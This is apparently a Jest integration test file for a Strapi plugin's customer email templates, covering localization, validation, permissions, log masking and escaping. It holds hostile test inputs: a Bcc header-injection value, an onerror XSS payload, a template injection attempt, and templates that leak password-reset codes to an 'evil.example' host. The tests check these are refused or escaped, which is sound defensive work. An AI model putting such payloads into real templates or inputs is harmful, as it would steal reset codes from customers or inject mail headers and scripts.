import type { EmailTemplate, EmailTemplatesSettings } from '../../shared/contracts/email-templates';
import {
  createCustomer,
  createLoginCustomer,
  type CustomerInput,
  login,
  passwordIn,
  requestPasswordReset,
  resetCodeIn,
  uniqueEmail,
} from '../helpers/api';
import { createAdminWithRoles, createRole, findRoleId } from '../helpers/admins';
import type { MailerService } from '../../server/src/services/mailer';
import { SUPER_ADMIN } from '../helpers/strapi';
import { useTestApp } from '../helpers/test-app';
import { waitFor } from '../helpers/wait';

const BASE = '/customer-login/email-templates';
const READ = 'plugin::customer-login.settings.read';
const UPDATE = 'plugin::customer-login.settings.update';

const app = useTestApp({ pluginConfig: { email: { localeField: 'language' } } });

/** `null`: no session at all. */
const auth = (token: string | null) => (token ? { Authorization: `Bearer ${token}` } : {});
const getTemplates = (token: string | null = app.adminToken) =>
  app.http().get(BASE).set(auth(token));
const putTemplates = (body: unknown, token: string | null = app.adminToken) =>
  app
    .http()
    .put(BASE)
    .set(auth(token))
    .send(body as object);
const preview = (body: unknown, token: string | null = app.adminToken) =>
  app
    .http()
    .post(`${BASE}/preview`)
    .set(auth(token))
    .send(body as object);
const testEmail = (body: unknown, token: string | null = app.adminToken) =>
  app
    .http()
    .post(`${BASE}/test-email`)
    .set(auth(token))
    .send(body as object);

const settings = async () => (await getTemplates()).body.data as EmailTemplatesSettings;

/** Writes the plugin store directly, as a version saved before today's checks would be. */
const storeTemplates = (value: unknown) =>
  app.strapi
    .store({ type: 'plugin', name: 'customer-login', key: 'email-templates' })
    .set({ value });

/** Waits until a line logged after `from` matches (background work logs after answering). */
const waitForLog = (from: number, pattern: RegExp) =>
  waitFor(() => (app.logs.slice(from).some((line) => pattern.test(line)) ? true : undefined), {
    what: `a line logged matching ${pattern}`,
  });

/** A customer saved with "Generate and send credentials", as the Login section does. */
const customerWithCredentials = async (overrides: CustomerInput = {}) => {
  const email = uniqueEmail('templates');
  const res = await createCustomer(app, {
    firstName: 'Grace',
    email,
    loginEnabled: true,
    emailConfirmed: true,
    sendCredentials: true,
    ...overrides,
  });
  expect(res.status).toBe(201);
  const mails = app.smtp.mailsTo(email);
  expect(mails).toHaveLength(1);
  return { email, mail: mails[0]! };
};

const ITALIAN_CREDENTIALS: EmailTemplate = {
  subject: 'Benvenuta <%= customer.firstName %>',
  html: '<h1>Ciao <%= customer.firstName %></h1><p>Password: <%= password %></p>',
  text: 'Ciao <%= customer.firstName %>,\nPassword: <%= password %>\n<% if loginUrl %>Accedi: <%= loginUrl %>\n<% end %>',
};

describe('GET /customer-login/email-templates', () => {
  test('401 without an admin session', async () => {
    const res = await getTemplates(null);

    expect(res.status).toBe(401);
    expect(res.body).toMatchObject({ data: null, error: { status: 401 } });
  });

  test('every email in five languages, the defaults until an admin saves their own', async () => {
    const res = await getTemplates();

    expect(res.status).toBe(200);
    const data = res.body.data as EmailTemplatesSettings;
    expect(data.locales).toEqual(['en', 'it', 'fr', 'de', 'es']);
    expect(data.defaultLocale).toBe('en');
    expect(data.localeField).toBe('language');
    expect(Object.keys(data.emails)).toEqual([
      'credentials',
      'emailConfirmation',
      'passwordReset',
      'passwordChanged',
      'emailChanged',
    ]);
    const credentials = data.emails.credentials;
    expect(credentials.templates.en).toMatchObject({
      subject: 'Your login details',
      customized: false,
      default: { subject: 'Your login details' },
    });
    expect(credentials.templates.it.subject).toBe('I tuoi dati di accesso');
    expect(credentials.templates.de.subject).toBe('Ihre Zugangsdaten');
    expect(credentials.variables).toEqual(
      expect.arrayContaining([
        'password',
        'loginUrl',
        'confirmationUrl',
        'expiresIn',
        'customer.firstName',
        'customer.language',
      ])
    );
    // The login attributes, the hash above all, are never offered.
    expect(credentials.variables).not.toContain('customer.password');
    expect(credentials.variables).not.toContain('customer.loginEnabled');
    expect(data.emails.passwordChanged.variables).not.toContain('password');
    expect(data.emails.passwordReset.variables).toEqual(
      expect.arrayContaining(['resetUrl', 'code'])
    );
    expect(data.emails.emailChanged.variables).toEqual(
      expect.arrayContaining(['email', 'newEmail', 'loginUrl', 'customer.firstName'])
    );
    expect(data.emails.emailChanged.variables).not.toContain('password');
    expect(data.emails.emailChanged.templates.fr).toMatchObject({
      subject: 'Votre adresse e-mail a été modifiée',
      customized: false,
    });
  });
});

describe('PUT /customer-login/email-templates', () => {
  test('an Italian version reaches customers whose language is Italian, and only them', async () => {
    const res = await putTemplates({ credentials: { it: ITALIAN_CREDENTIALS } });

    expect(res.status).toBe(200);
    const saved = (res.body.data as EmailTemplatesSettings).emails.credentials.templates;
    expect(saved.it).toMatchObject({ ...ITALIAN_CREDENTIALS, customized: true });
    expect(saved.en.customized).toBe(false);

    const italian = await customerWithCredentials({ firstName: 'Giulia', language: 'it' });
    expect(italian.mail.subject).toBe('Benvenuta Giulia');
    expect(italian.mail.text).toBe(
      `Ciao Giulia,\nPassword: ${passwordIn(italian.mail)}\nAccedi: http://localhost:3000/login\n`
    );
    expect(italian.mail.html).toContain('<h1>Ciao Giulia</h1>');
    expect((await login(app, italian.email, passwordIn(italian.mail))).status).toBe(200);

    // A regional tag counts as its language; German has no saved version: its default.
    const swiss = await customerWithCredentials({ language: 'it-CH' });
    expect(swiss.mail.subject).toBe('Benvenuta Grace');
    const german = await customerWithCredentials({ language: 'de' });
    expect(german.mail.subject).toBe('Ihre Zugangsdaten');
    expect((await login(app, german.email, passwordIn(german.mail))).status).toBe(200);
    for (const language of ['es', 'fr']) {
      const other = await customerWithCredentials({ language });
      expect((await login(app, other.email, passwordIn(other.mail))).status).toBe(200);
    }
    // No language, or one without templates: email.locale (en).
    for (const language of [undefined, 'pt']) {
      const other = await customerWithCredentials({ language });
      expect(other.mail.subject).toBe('Your login details');
      expect((await login(app, other.email, passwordIn(other.mail))).status).toBe(200);
    }
  });

  test('null restores the default, and so does saving the default itself', async () => {
    await putTemplates({ credentials: { it: ITALIAN_CREDENTIALS } }).expect(200);

    const restored = await putTemplates({ credentials: { it: null } });

    expect(restored.status).toBe(200);
    const italian = (restored.body.data as EmailTemplatesSettings).emails.credentials.templates.it;
    expect(italian.customized).toBe(false);
    expect(italian.subject).toBe('I tuoi dati di accesso');
    const { mail } = await customerWithCredentials({ language: 'it' });
    expect(mail.subject).toBe('I tuoi dati di accesso');

    const spanish = (await settings()).emails.passwordChanged.templates.es.default;
    const same = await putTemplates({ passwordChanged: { es: spanish } });
    expect(same.status).toBe(200);
    expect(
      (same.body.data as EmailTemplatesSettings).emails.passwordChanged.templates.es.customized
    ).toBe(false);
  });

  test('a template that does not render is refused with its path and the reason, and nothing is saved', async () => {
    const valid = { subject: 'Saved?', html: '<p>x</p>', text: 'x' };

    const res = await putTemplates({
      credentials: { en: valid },
      passwordReset: {
        fr: { subject: 'Code', html: '<p><%= customer.fullName %></p>', text: '<%= code %>' },
      },
    });

    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({
      data: null,
      error: {
        status: 400,
        name: 'ValidationError',
        message: expect.stringContaining('passwordReset / fr / html'),
        details: {
          errors: [
            {
              path: ['passwordReset', 'fr', 'html'],
              message: expect.stringMatching(
                /^Line 1: unknown variable "customer\.fullName"\. This email offers "email", /
              ),
            },
          ],
        },
      },
    });
    const after = await settings();
    expect(after.emails.credentials.templates.en.customized).toBe(false);
    expect(after.emails.passwordReset.templates.fr.customized).toBe(false);
  });

  test.each([
    ['code', { text: 'Hi <% process.exit(1) %>' }, 'text', /is not allowed\. Templates take/],
    ['an expression', { html: '<%= password + 1 %>' }, 'html', /is not a variable/],
    ['an unclosed if', { text: '<% if loginUrl %>x' }, 'text', /never closed with "<% end %>"/],
    ['a variable of another email', { text: '<%= code %>' }, 'text', /unknown variable "code"/],
    [
      'a line break in the subject',
      { subject: 'Hello\r\nBcc: victim@evil.test' },
      'subject',
      /the subject must be one line/,
    ],
  ])('%s is refused at save, naming the part', async (_case, change, part, message) => {
    const template = { ...ITALIAN_CREDENTIALS, ...change };

    const res = await putTemplates({ credentials: { en: template } });

    expect(res.status).toBe(400);
    expect(res.body.error.details.errors).toEqual([
      expect.objectContaining({
        path: ['credentials', 'en', part],
        message: expect.stringMatching(message),
      }),
    ]);
    expect((await settings()).emails.credentials.templates.en.customized).toBe(false);
  });

  test.each([
    ['an unknown email', { welcome: { en: null } }, []],
    ['an unknown language', { credentials: { pt: null } }, ['credentials']],
    [
      'an empty subject',
      { credentials: { en: { subject: ' ', html: 'x', text: 'x' } } },
      ['credentials', 'en', 'subject'],
    ],
    [
      'a missing part',
      { credentials: { en: { subject: 'x', html: 'x' } } },
      ['credentials', 'en', 'text'],
    ],
    [
      'a number',
      { credentials: { en: { subject: 1, html: 'x', text: 'x' } } },
      ['credentials', 'en', 'subject'],
    ],
  ])('%s is a 400 naming it', async (_case, body, path) => {
    const res = await putTemplates(body);

    expect(res.status).toBe(400);
    expect(res.body.error.name).toBe('ValidationError');
    expect(res.body.error.details.errors[0].path).toEqual(path);
  });
});

describe('sending', () => {
  test('every email knows its customer: a confirmation email in Spanish with the first name', async () => {
    await putTemplates({
      emailConfirmation: {
        es: {
          subject: 'Hola <%= customer.firstName %>, confirma tu correo',
          html: '<p><a href="<%= confirmationUrl %>">Confirmar</a></p>',
          text: 'Confirma: <%= confirmationUrl %> (<%= expiresIn %>)',
        },
      },
    }).expect(200);
    const email = uniqueEmail('spanish');

    const res = await createCustomer(app, {
      firstName: 'Lucía',
      email,
      language: 'es',
      loginEnabled: true,
      password: 'spanish-password-1',
      passwordConfirmation: 'spanish-password-1',
    });

    expect(res.status).toBe(201);
    const [mail] = app.smtp.mailsTo(email);
    expect(mail?.subject).toBe('Hola Lucía, confirma tu correo');
    expect(mail?.text).toMatch(
      /^Confirma: http:\/\/\S+email-confirmation\?confirmation=[\w-]{43} \(3\sdías\)$/
    );
    await putTemplates({ emailConfirmation: { es: null } }).expect(200);
  });

  test('each change of a saved version is what the next email carries, down to one part', async () => {
    const template = { subject: 'Changed', text: 'Your password was changed.' };
    try {
      for (const html of ['<p>First version</p>', '<p>Second version</p>']) {
        await putTemplates({ passwordChanged: { en: { ...template, html } } }).expect(200);
        const { email, documentId } = await createLoginCustomer(app, 'versions-1');
        const mailer = app.strapi.plugin('customer-login').service('mailer') as MailerService;

        await mailer.sendPasswordChangedNotice(email, documentId);

        expect(app.smtp.mailsTo(email).at(-1)?.html).toBe(html);
      }
    } finally {
      await putTemplates({ passwordChanged: { en: null } }).expect(200);
    }
  });

  test('a saved version that stopped rendering is logged, and the default goes out instead', async () => {
    // As if the customer type had lost a field the saved version shows.
    await storeTemplates({
      credentials: {
        en: { subject: 'Hi <%= customer.nickname %>', html: 'x', text: 'x' },
      },
    });
    try {
      const { mail } = await customerWithCredentials();

      expect(mail.subject).toBe('Your login details');
      expect(app.logs.join('\n')).toMatch(
        /the saved credentials email in "en" does not pass the template checks \(subject line 1\); the default is sent/
      );
      // The log names the place, never the template's text.
      expect(app.logs.filter((line) => line.includes('nickname'))).toEqual([]);
    } finally {
      await putTemplates({ credentials: { en: null } }).expect(200);
    }
  });

  test('a failed send logs the email, the masked recipient and the reason, never the subject or body', async () => {
    await putTemplates({
      credentials: {
        en: {
          subject: 'Welcome aboard, <%= customer.firstName %>',
          html: '<p>Password: <%= password %></p>',
          text: 'Password: <%= password %>',
        },
      },
    }).expect(200);
    const { email: resetEmail } = await createLoginCustomer(app, 'refused-reset-1');
    const email = uniqueEmail('refused');
    const logged = app.logs.length;
    app.smtp.rejectAll = true;
    try {
      const res = await createCustomer(app, {
        firstName: 'Ines',
        email,
        loginEnabled: true,
        emailConfirmed: true,
        sendCredentials: true,
      });
      expect(res.status).toBe(400);
      // A customer's own request fails the same way, after its answer.
      await app
        .http()
        .post('/api/customer-login/auth/forgot-password')
        .send({ email: resetEmail })
        .expect(200);
      await waitForLog(logged, /the passwordReset email to/);
    } finally {
      app.smtp.rejectAll = false;
      await putTemplates({ credentials: { en: null } }).expect(200);
    }

    const lines = app.logs.slice(logged);
    expect(lines.filter((line) => line.includes('could not be sent'))).toEqual([
      expect.stringMatching(
        /customer-login: the credentials email to r\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
      ),
      expect.stringMatching(
        /customer-login: the passwordReset email to c\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
      ),
    ]);
    for (const text of [
      'Welcome aboard',
      'Ines',
      'Password:',
      'Reset your password',
      email,
      resetEmail,
    ]) {
      expect({ text, lines: lines.filter((line) => line.includes(text)) }).toEqual({
        text,
        lines: [],
      });
    }
  });
});

describe('secrets stay in the body', () => {
  const RESET: EmailTemplate = {
    subject: 'Reset your password',
    html: '<p>Your code:<br>\n<b><%= code %></b></p>',
    text: 'Your code:\n<%= code %>\n',
  };

  test.each([
    [
      'in the subject',
      { subject: 'Your code <%= code %>' },
      'subject',
      /^Line 1: <%= code %> holds a secret and cannot be in the subject, .* Put it in the body\.$/,
    ],
    [
      "in an image's address",
      { html: '<p>Hi</p>\n<img src="https://evil.example/p.gif?c=<%= code %>">' },
      'html',
      /^Line 2: <%= code %> holds a secret and cannot stand in the src attribute of <img>: .* Move it out of the attribute\.$/,
    ],
    [
      "in another site's link",
      { html: '<a href="https://evil.example/?c=<%= code %>">Reset</a>' },
      'html',
      /^Line 1: <%= code %> holds a secret and cannot stand in the href attribute of <a>/,
    ],
    [
      'glued to a web address in the text',
      { text: 'Reset at https://evil.example/?c=<%= code %>' },
      'text',
      /^Line 1: <%= code %> holds a secret and is glued to "=" before it, .* Put a space or a line break between them\.$/,
    ],
  ])(
    'a secret %s is refused at save, naming the part and the line',
    async (_case, change, part, message) => {
      const res = await putTemplates({ passwordReset: { en: { ...RESET, ...change } } });

      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({
        data: null,
        error: {
          status: 400,
          name: 'ValidationError',
          details: {
            errors: [
              { path: ['passwordReset', 'en', part], message: expect.stringMatching(message) },
            ],
          },
        },
      });
      expect((await settings()).emails.passwordReset.templates.en.customized).toBe(false);
    }
  );

  test('a secret as text or as the whole address of a link is saved, and sent', async () => {
    const res = await putTemplates({
      passwordReset: {
        en: {
          ...RESET,
          html: '<p>Code: (<%= code %>).</p><% if resetUrl %><a href="<%= resetUrl %>">Reset</a><% end %>',
        },
      },
    });
    try {
      expect(res.status).toBe(200);
      const { email } = await createLoginCustomer(app, 'secret-text-1');
      const { mail } = await requestPasswordReset(app, email);
      const code = resetCodeIn(mail)!;
      expect(mail.html).toContain(`<p>Code: (${code}).</p>`);
      expect(mail.text).toBe(`Your code:\n${code}\n`);
    } finally {
      await putTemplates({ passwordReset: { en: null } }).expect(200);
    }
  });

  test('preview and test email refuse such a template the same way, and send nothing', async () => {
    const body = {
      email: 'passwordReset',
      locale: 'en',
      template: { ...RESET, html: '<img src="https://evil.example/p.gif?c=<%= code %>">' },
    };
    const before = app.smtp.mails.length;

    for (const res of [await preview(body), await testEmail(body)]) {
      expect(res.status).toBe(400);
      expect(res.body.error.details.errors).toEqual([
        expect.objectContaining({
          path: ['template', 'html'],
          message: expect.stringMatching(/<%= code %> holds a secret and cannot stand in the src/),
        }),
      ]);
    }
    expect(app.smtp.mails).toHaveLength(before);
  });

  test('a version saved before this check is not sent: the default goes out, and the log shows none of it', async () => {
    await storeTemplates({
      passwordReset: {
        en: {
          subject: 'Your code <%= code %>',
          html: '<img src="https://evil.example/p.gif?c=<%= code %>">',
          text: 'https://evil.example/?c=<%= code %>',
        },
      },
    });
    const logged = app.logs.length;
    try {
      const { email } = await createLoginCustomer(app, 'saved-before-1');
      const { mail } = await requestPasswordReset(app, email);

      expect(mail.subject).toBe('Reset your password');
      expect(`${mail.html}${mail.text}`).not.toContain('evil.example');
      expect(app.logs.slice(logged).join('\n')).toMatch(
        /the saved passwordReset email in "en" does not pass the template checks \(subject line 1, html line 1, text line 1\)/
      );
      for (const text of ['evil.example', 'Your code', '<%']) {
        expect(app.logs.slice(logged).filter((line) => line.includes(text))).toEqual([]);
      }
    } finally {
      await putTemplates({ passwordReset: { en: null } }).expect(200);
    }
  });
});

describe("the customer type's private attributes", () => {
  const NOTE = 'Internal note: difficult customer, 8c1f';

  test('a field in options.privateAttributes is offered by no email, while public fields are', async () => {
    const data = await settings();

    for (const email of Object.keys(data.emails) as Array<keyof typeof data.emails>) {
      expect(data.emails[email].variables).toContain('customer.lastName');
      expect(data.emails[email].variables).not.toContain('customer.internalNote');
    }
  });

  test('a template showing it is refused at save as an unknown variable', async () => {
    const res = await putTemplates({
      passwordChanged: {
        en: { subject: 'x', html: '<p><%= customer.internalNote %></p>', text: 'x' },
      },
    });

    expect(res.status).toBe(400);
    expect(res.body.error.details.errors).toEqual([
      expect.objectContaining({
        path: ['passwordChanged', 'en', 'html'],
        message: expect.stringMatching(/^Line 1: unknown variable "customer\.internalNote"/),
      }),
    ]);
  });

  test('a saved version showing it sends the default, and the note reaches no email', async () => {
    await storeTemplates({
      credentials: {
        en: {
          subject: 'Hello',
          html: '<p><%= customer.internalNote %></p>',
          text: 'Note: <%= customer.internalNote %>\nPassword: <%= password %>',
        },
      },
    });
    try {
      const { mail } = await customerWithCredentials({ internalNote: NOTE });

      expect(mail.subject).toBe('Your login details');
      expect(`${mail.subject}${mail.html}${mail.text}`).not.toContain('8c1f');
    } finally {
      await putTemplates({ credentials: { en: null } }).expect(200);
    }
  });
});

describe('the email-changed notice', () => {
  const mailer = () => app.strapi.plugin('customer-login').service('mailer') as MailerService;

  test("goes to the old address in the customer's language, naming the new one masked", async () => {
    const { email, documentId } = await createLoginCustomer(app, 'email-changed-1', {
      language: 'it',
    });
    const before = app.smtp.mailsTo(email).length;

    await mailer().sendEmailChangedNotice({
      to: email,
      documentId,
      newEmail: 'giulia.nuova@shop.test',
    });

    const mails = app.smtp.mailsTo(email);
    expect(mails).toHaveLength(before + 1);
    const mail = mails.at(-1)!;
    expect(mail.subject).toBe('Il tuo indirizzo email è stato cambiato');
    expect(mail.text).toContain(
      "l'indirizzo email del tuo account è stato cambiato in g***@shop.test."
    );
    expect(mail.html).toContain('g***@shop.test');
    expect(`${mail.subject}${mail.html}${mail.text}`).not.toContain('giulia.nuova');
    expect(app.smtp.mailsTo('giulia.nuova@shop.test')).toEqual([]);
  });

  test("an admin's version shows the customer's address masked too, whatever the row holds", async () => {
    await putTemplates({
      emailChanged: {
        en: {
          subject: 'Address changed',
          html: '<p><%= customer.email %> / <%= newEmail %> / <%= email %></p>',
          text: '<%= customer.email %> / <%= newEmail %> / <%= email %>',
        },
      },
    }).expect(200);
    try {
      const { email, documentId } = await createLoginCustomer(app, 'email-changed-2');

      await mailer().sendEmailChangedNotice({ to: email, documentId, newEmail: 'new@shop.test' });

      expect(app.smtp.mailsTo(email).at(-1)?.text).toBe(
        `n***@shop.test / n***@shop.test / ${email}`
      );
    } finally {
      await putTemplates({ emailChanged: { en: null } }).expect(200);
    }
  });

  test('a mailbox that no longer exists is logged, masked, and not thrown', async () => {
    const { email, documentId } = await createLoginCustomer(app, 'email-changed-3');
    app.smtp.rejectAddresses.add(email.toLowerCase());
    const logged = app.logs.length;
    try {
      await expect(
        mailer().sendEmailChangedNotice({ to: email, documentId, newEmail: 'new@shop.test' })
      ).resolves.toBeUndefined();
    } finally {
      app.smtp.rejectAddresses.delete(email.toLowerCase());
    }

    const lines = app.logs.slice(logged);
    expect(lines.filter((line) => line.includes('could not be sent'))).toEqual([
      expect.stringMatching(
        /customer-login: the emailChanged email to c\*\*\*@shop\.test could not be sent: .*Mailbox unavailable/
      ),
    ]);
    expect(lines.filter((line) => line.includes(email) || line.includes('new@shop.test'))).toEqual(
      []
    );
  });

  test('the preview shows a sample new address, masked', async () => {
    const res = await preview({
      email: 'emailChanged',
      locale: 'de',
      template: (await settings()).emails.emailChanged.templates.de.default,
    });

    expect(res.status).toBe(200);
    expect(res.body.data.subject).toBe('Ihre E-Mail-Adresse wurde geändert');
    expect(res.body.data.text).toContain(
      'die E-Mail-Adresse Ihres Kontos wurde in j***@example.com geändert.'
    );
  });
});

describe('escaping', () => {
  const HOSTILE = '<img src=x onerror=alert(1)>\r\nBcc: victim@evil.test';

  afterEach(async () => {
    await putTemplates({ credentials: { en: null } }).expect(200);
  });

  test('a hostile first name is escaped in the HTML body, raw in the text, and one line in the subject', async () => {
    await putTemplates({
      credentials: {
        en: {
          subject: 'Welcome <%= customer.firstName %>',
          html: '<p>Hello <%= customer.firstName %></p>\n<p>Password: <%= password %></p>',
          text: 'Hello <%= customer.firstName %>\nPassword: <%= password %>\n',
        },
      },
    }).expect(200);

    const { email, mail } = await customerWithCredentials({ firstName: HOSTILE });

    expect(mail.html).toContain('<p>Hello &lt;img src=x onerror=alert(1)&gt;');
    expect(mail.html).not.toContain('<img');
    expect(mail.text).toContain('Hello <img src=x onerror=alert(1)>\nBcc: victim@evil.test\n');
    expect(mail.subject).toBe('Welcome <img src=x onerror=alert(1)> Bcc: victim@evil.test');
    expect(mail.to).toEqual([email]);
    expect(app.smtp.mailsTo('victim@evil.test')).toEqual([]);
  });
});

describe('the default English emails', () => {
  test('a password reset carries the code on its own line, as before', async () => {
    const { email } = await customerWithCredentials();
    const before = app.smtp.mails.length;
    await app.http().post('/api/customer-login/auth/forgot-password').send({ email }).expect(200);
    await app.smtp.waitForMails(before + 1);
    const reset = app.smtp.mailsTo(email).at(-1);

    expect(reset?.subject).toBe('Reset your password');
    expect(resetCodeIn(reset!)).toMatch(/^[\w-]{43}$/);
    expect(reset?.text).toContain('It works once and expires in 1 hour.');
  });
});

describe('POST /customer-login/email-templates/preview', () => {
  test('renders an unsaved template with sample data, as it would be sent', async () => {
    const res = await preview({
      email: 'credentials',
      locale: 'fr',
      template: {
        subject: 'Bonjour <%= customer.firstName %>',
        html: '<p><%= customer.lastName %> <%= password %></p><% if confirmationUrl %><a href="<%= confirmationUrl %>">ok</a><% end %>',
        text: '<%= email %> / <%= customer.language %> / <%= expiresIn %>',
      },
    });

    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      subject: 'Bonjour Jane',
      html: expect.stringMatching(
        /^<p>Doe Example-Pass-2030<\/p><a href="http:\/\/.*\/api\/customer-login\/auth\/email-confirmation\?confirmation=example-confirmation-token">ok<\/a>$/
      ),
      text: expect.stringMatching(/^jane\.doe@example\.com \/ fr \/ 3\sjours$/),
    });
  });

  test('a template that does not render is a 400 naming the part', async () => {
    const res = await preview({
      email: 'passwordChanged',
      locale: 'en',
      template: { subject: 'x', html: 'x', text: 'Your password: <%= password %>' },
    });

    expect(res.status).toBe(400);
    expect(res.body.error.details.errors).toEqual([
      expect.objectContaining({
        path: ['template', 'text'],
        message: expect.stringContaining('unknown variable "password"'),
      }),
    ]);
  });

  test('an unknown email or language is a 400 naming it', async () => {
    const res = await preview({
      email: 'welcome',
      locale: 'en',
      template: { subject: 'x', html: 'x', text: 'x' },
    });

    expect(res.status).toBe(400);
    expect(res.body.error.details.errors[0].path).toEqual(['email']);
  });
});

describe('POST /customer-login/email-templates/test-email', () => {
  test("sends the rendered template to the signed-in admin's own address", async () => {
    const before = app.smtp.mailsTo(SUPER_ADMIN.email).length;

    const res = await testEmail({
      email: 'passwordReset',
      locale: 'de',
      template: {
        subject: 'Test für <%= customer.firstName %>',
        html: '<p><%= code %></p>',
        text: '<%= code %> <%= expiresIn %>',
      },
    });

    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      data: { email: SUPER_ADMIN.email, sentAt: expect.any(String) },
    });
    const mails = app.smtp.mailsTo(SUPER_ADMIN.email);
    expect(mails).toHaveLength(before + 1);
    expect(mails.at(-1)).toMatchObject({
      subject: 'Test für Jane',
      text: expect.stringMatching(/^example-reset-code 1\sStunde/),
    });
  });

  test('a broken template sends nothing', async () => {
    const before = app.smtp.mails.length;

    const res = await testEmail({
      email: 'credentials',
      locale: 'en',
      template: { subject: 'x', html: '<%= nope %>', text: 'x' },
    });

    expect(res.status).toBe(400);
    expect(res.body.error.details.errors[0].path).toEqual(['template', 'html']);
    expect(app.smtp.mails).toHaveLength(before);
  });

  test('a delivery failure is a 400 saying so', async () => {
    app.smtp.rejectAll = true;
    try {
      const res = await testEmail({
        email: 'credentials',
        locale: 'en',
        template: { subject: 'x', html: 'x', text: 'x' },
      });

      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        name: 'ApplicationError',
        message: expect.stringContaining(
          `The test email to ${SUPER_ADMIN.email} could not be sent`
        ),
        details: { code: 'EMAIL_NOT_SENT' },
      });
    } finally {
      app.smtp.rejectAll = false;
    }
  });
});

describe('permissions', () => {
  const body = {
    email: 'credentials',
    locale: 'en',
    template: { subject: 'x', html: 'x', text: 'x' },
  };
  const calls = (token: string | null) => ({
    get: () => getTemplates(token),
    put: () => putTemplates({ credentials: { en: body.template } }, token),
    preview: () => preview(body, token),
    testEmail: () => testEmail(body, token),
  });

  test('401 on every route without an admin session', async () => {
    for (const [name, call] of Object.entries(calls(null))) {
      const res = await call();
      expect({ name, status: res.status }).toEqual({ name, status: 401 });
    }
  });

  test('403 on every route for an Editor, who has no settings permission', async () => {
    const editorToken = await createAdminWithRoles(app, [await findRoleId(app, 'strapi-editor')]);

    for (const [name, call] of Object.entries(calls(editorToken))) {
      const res = await call();
      expect({ name, status: res.status }).toEqual({ name, status: 403 });
      expect(res.body).toMatchObject({ data: null, error: { status: 403, name: 'PolicyError' } });
    }
  });

  test('settings.read reads and previews; saving and test emails need settings.update', async () => {
    const reader = await createAdminWithRoles(app, [
      await createRole(app, 'Template reader', [{ action: READ }]),
    ]);
    const writer = await createAdminWithRoles(app, [
      await createRole(app, 'Template writer', [{ action: READ }, { action: UPDATE }]),
    ]);
    const before = app.smtp.mails.length;

    const asReader = calls(reader);
    expect((await asReader.get()).status).toBe(200);
    expect((await asReader.preview()).status).toBe(200);
    expect((await asReader.put()).status).toBe(403);
    expect((await asReader.testEmail()).status).toBe(403);
    expect(app.smtp.mails).toHaveLength(before);
    expect((await settings()).emails.credentials.templates.en.customized).toBe(false);

    const asWriter = calls(writer);
    expect((await asWriter.put()).status).toBe(200);
    expect((await asWriter.testEmail()).status).toBe(200);
    await putTemplates({ credentials: { en: null } }).expect(200);
  });
});
